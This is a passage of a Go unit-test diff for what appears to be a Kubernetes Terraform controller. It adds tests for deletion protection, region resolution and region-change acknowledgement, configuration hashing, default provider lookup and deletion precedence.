+					Status: v1beta2.ConfigurationStatus{
+						Apply: v1beta2.ConfigurationApplyStatus{
+							State: types.ExistingStateFound,
+						},
+					},
+				},
+			},
+			want: want{
+				deletable: true,
+			},
+		},
 		{
 			name: "failed to get provider",
 			args: args{
@@ -363,6 +1261,34 @@ func TestIsDeletable(t *testing.T) {
 				errMsg: "failed to get Provider object",
 			},
 		},
+		{
+			name: "configuration is protected from deletion",
+			args: args{
+				k8sClient: k8sClient2,
+				configuration: &v1beta2.Configuration{
+					ObjectMeta: metav1.ObjectMeta{
+						Labels: map[string]string{DeletionProtectionLabel: "true"},
+					},
+				},
+			},
+			want: want{
+				errMsg: "protected from deletion by the label terraform.core.oam.dev/deletion-protection=true",
+			},
+		},
+		{
+			name: "deletion protection is disabled",
+			args: args{
+				k8sClient: k8sClient2,
+				configuration: &v1beta2.Configuration{
+					ObjectMeta: metav1.ObjectMeta{
+						Labels: map[string]string{DeletionProtectionLabel: "false"},
+					},
+				},
+			},
+			want: want{
+				deletable: true,
+			},
+		},
 	}
 	for _, tc := range testcases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -454,7 +1380,7 @@ func TestSetRegion(t *testing.T) {
 	}
 	for name, tc := range testcases {
 		t.Run(name, func(t *testing.T) {
-			region, err := SetRegion(ctx, k8sClient, tc.args.namespace, tc.args.name, provider)
+			region, _, err := SetRegion(ctx, k8sClient, tc.args.namespace, tc.args.name, provider)
 			if tc.want.errMsg != "" && !strings.Contains(err.Error(), tc.want.errMsg) {
 				t.Errorf("SetRegion() error = %v, wantErr %v", err, tc.want.errMsg)
 			}
@@ -465,3 +1391,333 @@ func TestSetRegion(t *testing.T) {
 		})
 	}
 }
+
+func TestSetRegionFromLabel(t *testing.T) {
+	t.Setenv(RegionLabelEnv, "topology.kubernetes.io/region")
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	v1beta2.AddToScheme(s)
+	labeled := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "abc",
+			Namespace: "default",
+			Labels:    map[string]string{"topology.kubernetes.io/region": "us-west-2"},
+		},
+	}
+	unlabeled := &v1beta2.Configuration{ObjectMeta: metav1.ObjectMeta{Name: "def", Namespace: "default"}}
+	k8sClient := fake.NewClientBuilder().WithScheme(s).WithObjects(labeled, unlabeled).Build()
+	provider := &v1beta1.Provider{Spec: v1beta1.ProviderSpec{Region: "us-east-1"}}
+
+	region, source, err := SetRegion(ctx, k8sClient, "default", "abc", provider)
+	assert.Nil(t, err)
+	assert.Equal(t, "us-west-2", region)
+	assert.Equal(t, RegionFromLabel, source)
+
+	// the region of the label is persisted, so it doesn't change along with the label
+	got, err := Get(ctx, k8sClient, client.ObjectKey{Namespace: "default", Name: "abc"})
+	assert.Nil(t, err)
+	assert.Equal(t, "us-west-2", got.Spec.Region)
+	got.Labels["topology.kubernetes.io/region"] = "eu-west-1"
+	assert.Nil(t, k8sClient.Update(ctx, &got))
+	region, source, err = SetRegion(ctx, k8sClient, "default", "abc", provider)
+	assert.Nil(t, err)
+	assert.Equal(t, "us-west-2", region)
+	assert.Equal(t, RegionFromSpec, source)
+
+	region, source, err = SetRegion(ctx, k8sClient, "default", "def", provider)
+	assert.Nil(t, err)
+	assert.Equal(t, "us-east-1", region)
+	assert.Equal(t, RegionFromProvider, source)
+}
+
+func TestSetRegionChange(t *testing.T) {
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	v1beta2.AddToScheme(s)
+	configuration := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: "default"},
+		Spec:       v1beta2.ConfigurationSpec{BaseConfigurationSpec: v1beta2.BaseConfigurationSpec{Region: "eu-west-1"}},
+		Status:     v1beta2.ConfigurationStatus{Region: "us-east-1"},
+	}
+	k8sClient := fake.NewClientBuilder().WithScheme(s).WithObjects(configuration).Build()
+
+	_, _, err := SetRegion(ctx, k8sClient, "default", "abc", nil)
+	var regionErr *RegionChangeError
+	assert.ErrorAs(t, err, &regionErr)
+	assert.Equal(t, "The region changes from us-east-1 to eu-west-1, the cloud resources in us-east-1 are not moved and new ones would be created in eu-west-1, set the annotation terraform.core.oam.dev/acknowledge-region-change to eu-west-1 to acknowledge it",
+		err.Error())
+
+	// the acknowledgement of another region doesn't cover the change
+	got, err := Get(ctx, k8sClient, client.ObjectKey{Namespace: "default", Name: "abc"})
+	assert.Nil(t, err)
+	got.Annotations = map[string]string{RegionChangeAcknowledgementAnnotation: "ap-south-1"}
+	assert.Nil(t, k8sClient.Update(ctx, &got))
+	_, _, err = SetRegion(ctx, k8sClient, "default", "abc", nil)
+	assert.ErrorAs(t, err, &regionErr)
+
+	got.Annotations[RegionChangeAcknowledgementAnnotation] = "eu-west-1"
+	assert.Nil(t, k8sClient.Update(ctx, &got))
+	region, source, err := SetRegion(ctx, k8sClient, "default", "abc", nil)
+	assert.Nil(t, err)
+	assert.Equal(t, "eu-west-1", region)
+	assert.Equal(t, RegionFromSpec, source)
+}
+
+func TestCheckRegionChange(t *testing.T) {
+	notDeployed := &v1beta2.Configuration{}
+	assert.Nil(t, CheckRegionChange(notDeployed, "eu-west-1"))
+
+	deployed := &v1beta2.Configuration{Status: v1beta2.ConfigurationStatus{Region: "us-east-1"}}
+	assert.Nil(t, CheckRegionChange(deployed, "us-east-1"))
+	assert.NotNil(t, CheckRegionChange(deployed, "eu-west-1"))
+}
+
+func TestComputeConfigurationHash(t *testing.T) {
+	configuration := &v1beta2.Configuration{
+		Spec: v1beta2.ConfigurationSpec{
+			HCL: "abc",
+		},
+	}
+	providerObj := &v1beta1.Provider{
+		Spec: v1beta1.ProviderSpec{
+			Provider: "aws",
+			Region:   "us-east-1",
+		},
+	}
+
+	hash, err := ComputeConfigurationHash(configuration, providerObj)
+	assert.Nil(t, err)
+	again, err := ComputeConfigurationHash(configuration.DeepCopy(), providerObj.DeepCopy())
+	assert.Nil(t, err)
+	assert.Equal(t, hash, again)
+
+	withoutProvider, err := ComputeConfigurationHash(configuration, nil)
+	assert.Nil(t, err)
+	assert.NotEqual(t, hash, withoutProvider)
+
+	providerObj.Spec.Region = "us-west-1"
+	regionChanged, err := ComputeConfigurationHash(configuration, providerObj)
+	assert.Nil(t, err)
+	assert.NotEqual(t, hash, regionChanged)
+
+	configuration.Spec.HCL = "def"
+	hclChanged, err := ComputeConfigurationHash(configuration, providerObj)
+	assert.Nil(t, err)
+	assert.NotEqual(t, regionChanged, hclChanged)
+}
+
+func TestResolveProviderReference(t *testing.T) {
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	corev1.AddToScheme(s)
+	k8sClient := fake.NewClientBuilder().WithScheme(s).WithObjects(
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "plain"}},
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
+			Name:        "tenant-a",
+			Annotations: map[string]string{DefaultProviderAnnotation: "aws"},
+		}},
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
+			Name:        "tenant-b",
+			Annotations: map[string]string{DefaultProviderAnnotation: "providers/alibaba"},
+		}},
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{
+			Name:        "broken",
+			Annotations: map[string]string{DefaultProviderAnnotation: "a/b/c"},
+		}},
+	).Build()
+
+	newConfiguration := func(namespace string, ref *crossplane.Reference) v1beta2.Configuration {
+		return v1beta2.Configuration{
+			ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: namespace},
+			Spec: v1beta2.ConfigurationSpec{
+				BaseConfigurationSpec: v1beta2.BaseConfigurationSpec{ProviderReference: ref},
+			},
+		}
+	}
+
+	testcases := []struct {
+		name          string
+		env           map[string]string
+		configuration v1beta2.Configuration
+		want          *crossplane.Reference
+		errMsg        string
+	}{
+		{
+			name:          "provider reference is set",
+			configuration: newConfiguration("tenant-a", &crossplane.Reference{Name: "x", Namespace: "y"}),
+			want:          &crossplane.Reference{Name: "x", Namespace: "y"},
+		},
+		{
+			name:          "hardcoded default",
+			configuration: newConfiguration("plain", nil),
+			want:          &crossplane.Reference{Name: "default", Namespace: "default"},
+		},
+		{
+			name:          "default overridden by env",
+			env:           map[string]string{DefaultProviderNameEnv: "shared", DefaultProviderNamespaceEnv: "vela-system"},
+			configuration: newConfiguration("not-found", nil),
+			want:          &crossplane.Reference{Name: "shared", Namespace: "vela-system"},
+		},
+		{
+			name:          "provider in the same namespace",
+			configuration: newConfiguration("tenant-a", nil),
+			want:          &crossplane.Reference{Name: "aws", Namespace: "tenant-a"},
+		},
+		{
+			name:          "provider in another namespace",
+			configuration: newConfiguration("tenant-b", nil),
+			want:          &crossplane.Reference{Name: "alibaba", Namespace: "providers"},
+		},
+		{
+			name:          "invalid annotation",
+			configuration: newConfiguration("broken", nil),
+			errMsg:        "the annotation terraform.core.oam.dev/default-provider of namespace broken is not valid",
+		},
+	}
+
+	for _, tc := range testcases {
+		t.Run(tc.name, func(t *testing.T) {
+			for k, v := range tc.env {
+				t.Setenv(k, v)
+			}
+			ref, err := ResolveProviderReference(ctx, k8sClient, tc.configuration)
+			if tc.errMsg != "" {
+				assert.Contains(t, err.Error(), tc.errMsg)
+				return
+			}
+			assert.Nil(t, err)
+			assert.Equal(t, tc.want, ref)
+		})
+	}
+}
+
+// TestIsDeletablePrecedence covers every combination of the deletion protection, the state of the Provider and the
+// apply state. The deletion protection blocks first, then a Provider which is missing or not ready allows deleting
+// directly, and ProvisioningAndChecking only blocks when the Provider is ready.
+func TestIsDeletableProviderAccessDenied(t *testing.T) {
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	v1beta1.AddToScheme(s)
+	v1beta2.AddToScheme(s)
+	providerObj := &v1beta1.Provider{
+		ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: "default"},
+		Spec:       v1beta1.ProviderSpec{AllowedNamespaces: []string{"team-a"}},
+		Status:     v1beta1.ProviderStatus{State: types.ProviderIsReady},
+	}
+	configuration := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: "team-b"},
+		Status: v1beta2.ConfigurationStatus{
+			Apply: v1beta2.ConfigurationApplyStatus{State: types.Available},
+		},
+	}
+	configuration.Spec.ProviderReference = &crossplane.Reference{Name: "default", Namespace: "default"}
+	k8sClient := fake.NewClientBuilder().WithScheme(s).WithObjects(providerObj).Build()
+
+	// the cloud resources deployed before the Provider is restricted are not orphaned
+	deletable, err := IsDeletable(ctx, k8sClient, configuration)
+	assert.False(t, deletable)
+	var blockedErr *DestroyBlockedError
+	assert.True(t, errors.As(err, &blockedErr))
+	assert.Equal(t, types.ProviderAccessDenied, blockedErr.State)
+	assert.Equal(t, "Configuration team-b/abc is not allowed to use Provider default/default, its namespace is not in spec.allowedNamespaces",
+		blockedErr.Message)
+}
+
+func TestIsDeletableBackendKeyCollision(t *testing.T) {
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	v1beta1.AddToScheme(s)
+	v1beta2.AddToScheme(s)
+	now := time.Now()
+	providerObj := &v1beta1.Provider{
+		ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: "default"},
+		Status:     v1beta1.ProviderStatus{State: types.ProviderIsReady},
+	}
+	older := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: "team-a", UID: "a", CreationTimestamp: metav1.NewTime(now.Add(-time.Hour))},
+	}
+	configuration := &v1beta2.Configuration{
+		ObjectMeta: metav1.ObjectMeta{Name: "abc", Namespace: "team-b", UID: "b", CreationTimestamp: metav1.NewTime(now)},
+		Status: v1beta2.ConfigurationStatus{
+			Apply: v1beta2.ConfigurationApplyStatus{State: types.BackendKeyCollision},
+		},
+	}
+	configuration.Spec.ProviderReference = &crossplane.Reference{Name: "default", Namespace: "default"}
+	older.Spec.ProviderReference = configuration.Spec.ProviderReference
+	k8sClient := fake.NewClientBuilder().WithScheme(s).WithObjects(providerObj, older, configuration).Build()
+
+	deletable, err := IsDeletable(ctx, k8sClient, configuration)
+	assert.Nil(t, err)
+	assert.True(t, deletable)
+
+	// the older one keeps the state, and is destroyed with it
+	deletable, err = IsDeletable(ctx, k8sClient, older)
+	assert.Nil(t, err)
+	assert.False(t, deletable)
+}
+
+func TestIsDeletablePrecedence(t *testing.T) {
+	ctx := context.Background()
+	s := runtime.NewScheme()
+	v1beta1.AddToScheme(s)
+	v1beta2.AddToScheme(s)
+	newClient := func(state types.ProviderState) client.Client {
+		builder := fake.NewClientBuilder().WithScheme(s)
+		if state != "" {
+			builder = builder.WithObjects(&v1beta1.Provider{
+				ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: "default"},
+				Status:     v1beta1.ProviderStatus{State: state},
+			})
+		}
+		return builder.Build()
+	}
+	const provisioning = "Destroy could not complete and needs to wait for Provision to complete first"
+
+	testcases := []struct {
+		protected  bool
+		provider   types.ProviderState
+		applyState types.ConfigurationState
+		deletable  bool
+		errMsg     string
+	}{
+		{false, "", types.Available, true, ""},
+		{false, "", types.ConfigurationProvisioningAndChecking, true, ""},
+		{false, types.ProviderIsNotReady, types.Available, true, ""},
+		{false, types.ProviderIsNotReady, types.ConfigurationProvisioningAndChecking, true, ""},
+		{false, types.ProviderIsReady, types.Available, false, ""},
+		{false, types.ProviderIsReady, types.ConfigurationProvisioningAndChecking, false, provisioning},
+		{true, "", types.Available, false, types.MessageDeletionProtected},
+		{true, "", types.ConfigurationProvisioningAndChecking, false, types.MessageDeletionProtected},
+		{true, types.ProviderIsNotReady, types.Available, false, types.MessageDeletionProtected},
+		{true, types.ProviderIsNotReady, types.ConfigurationProvisioningAndChecking, false, types.MessageDeletionProtected},
+		{true, types.ProviderIsReady, types.Available, false, types.MessageDeletionProtected},
+		{true, types.ProviderIsReady, types.ConfigurationProvisioningAndChecking, false, types.MessageDeletionProtected},
+	}
+	for _, tc := range testcases {
+		name := fmt.Sprintf("protected=%t,provider=%s,apply=%s", tc.protected, tc.provider, tc.applyState)
+		t.Run(name, func(t *testing.T) {
+			configuration := &v1beta2.Configuration{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "abc",
+					Namespace: "default",
+					Labels:    map[string]string{DeletionProtectionLabel: strconv.FormatBool(tc.protected)},
+				},
+				Spec: v1beta2.ConfigurationSpec{
+					BaseConfigurationSpec: v1beta2.BaseConfigurationSpec{
+						ProviderReference: &crossplane.Reference{Name: "default", Namespace: "default"},
+					},
+				},
+				Status: v1beta2.ConfigurationStatus{
+					Apply: v1beta2.ConfigurationApplyStatus{State: tc.applyState},
+				},
+			}
+			deletable, err := IsDeletable(ctx, newClient(tc.provider), configuration)
+			assert.Equal(t, tc.deletable, deletable)
+			if tc.errMsg == "" {
+				assert.Nil(t, err)
+				return
+			}
+			assert.Contains(t, err.Error(), tc.errMsg)
+		})
+	}
+}